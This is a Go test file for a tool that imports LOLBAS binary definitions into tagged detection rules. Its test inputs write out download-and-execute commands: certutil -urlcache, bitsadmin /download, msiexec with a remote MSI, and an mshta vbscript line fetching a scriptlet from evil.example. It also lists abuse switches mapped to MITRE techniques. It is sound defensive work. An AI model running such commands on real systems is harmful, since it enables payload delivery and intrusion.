@@ -0,0 +1,121 @@
+package main
+
+import (
+	"path/filepath"
+	"reflect"
+	"sort"
+	"testing"
+)
+
+func TestLOLBASArgs(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{"certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}", []string{"-urlcache", "http://", "https://"}},
+		{"certutil -decode {PATH:.base64} {PATH:.exe}", []string{"-decode"}},
+		// Inline values are cut, keeping the separator
+		{"msiexec.exe /q /i:{REMOTEURL:.msi}", []string{"http://", "https://", "/i:"}},
+		{"bitsadmin /transfer job /download /priority=high", []string{"/transfer", "/download", "/priority="}},
+		{`mshta.exe vbscript:Close(Execute("GetObject(""script:https://evil.example/a.sct"")"))`, []string{"vbscript:", "http://", "https://"}},
+		{`rundll32.exe "javascript:a=1;close();"`, []string{"javascript:"}},
+		// Short switches, and paths and placeholders where a switch could be
+		{"cmd.exe /c {PATH_ABSOLUTE}", []string{}},
+		{`forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe`, []string{}},
+		{"explorer.exe /root,{PATH:.exe}", []string{}},
+		{"explorer.exe", []string{}},
+		{"", []string{}},
+	}
+	for _, tt := range tests {
+		got := lolbasArgs(tt.command)
+		if len(got) == 0 && len(tt.want) == 0 {
+			continue
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("lolbasArgs(%q) = %q, want %q", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestLOLBASCategory(t *testing.T) {
+	for category, want := range map[string]string{
+		"Execute":        "execution",
+		" AWL Bypass ":   "defense-evasion",
+		"UAC Bypass":     "privilege-escalation",
+		"Download":       "download",
+		"Reconnaissance": "reconnaissance",
+		"Some  New Kind": "some-new-kind",
+		"":               "uncategorized",
+	} {
+		if got := lolbasCategory(category); got != want {
+			t.Errorf("lolbasCategory(%q) = %q, want %q", category, got, want)
+		}
+	}
+}
+
+func TestImportLOLBAS(t *testing.T) {
+	dir := "testdata/lolbas"
+	var skipped []string
+	file, err := importLOLBAS(dir, func(path, reason string) {
+		skipped = append(skipped, filepath.ToSlash(path))
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	want := []LOLBin{
+		{
+			// Two definitions merged; the MitreID case and surrounding
+			// space don't matter
+			Name: "certutil.exe",
+			ArgGroups: map[string][]string{
+				"defense-evasion": {"-urlcache", "http://", "https://"},
+				"download":        {"-split", "-urlcache", "-verifyctl", "http://", "https://"},
+				"obfuscation":     {"-decode", "-decodehex", "-encode"},
+			},
+			Tags:  []string{"defense-evasion", "download", "obfuscation"},
+			MITRE: []string{"T1027.013", "T1105", "T1140", "T1564.004"},
+		},
+		{
+			Name:      "mshta.exe",
+			ArgGroups: map[string][]string{"execution": {"http://", "https://", "javascript:", "vbscript:"}},
+			Tags:      []string{"execution"},
+			MITRE:     []string{"T1218.005"},
+		},
+		{
+			// Commands without a category, without a MitreID or with one
+			// that isn't a technique ID
+			Name:      "sqldumper.exe",
+			ArgGroups: map[string][]string{"uncategorized": {"/dumpfile"}},
+			Tags:      []string{"uncategorized"},
+			MITRE:     []string{"T1003"},
+		},
+	}
+	if !reflect.DeepEqual(file.LOLBins, want) {
+		t.Errorf("imported %+v\nwant %+v", file.LOLBins, want)
+	}
+	for _, lolbin := range file.LOLBins {
+		if err := validateLOLBin(lolbin); err != nil {
+			t.Errorf("imported %s doesn't validate: %v", lolbin.Name, err)
+		}
+	}
+
+	// Libraries, scripts, definitions without a name, commands or any
+	// switch, and files that don't parse are reported, other files ignored
+	sort.Strings(skipped)
+	wantSkipped := []string{
+		"testdata/lolbas/OSBinaries/Broken.yml",
+		"testdata/lolbas/OSBinaries/Desktopimgdownldr.yml",
+		"testdata/lolbas/OSBinaries/Explorer.yml",
+		"testdata/lolbas/OSBinaries/Unnamed.yml",
+		"testdata/lolbas/OSLibraries/Advpack.yml",
+		"testdata/lolbas/OSScripts/Pubprn.yml",
+	}
+	if !reflect.DeepEqual(skipped, wantSkipped) {
+		t.Errorf("skipped %q, want %q", skipped, wantSkipped)
+	}
+
+	if _, err := importLOLBAS(filepath.Join(dir, "missing"), func(string, string) {}); err == nil {
+		t.Error("importing a missing directory succeeded")
+	}
+}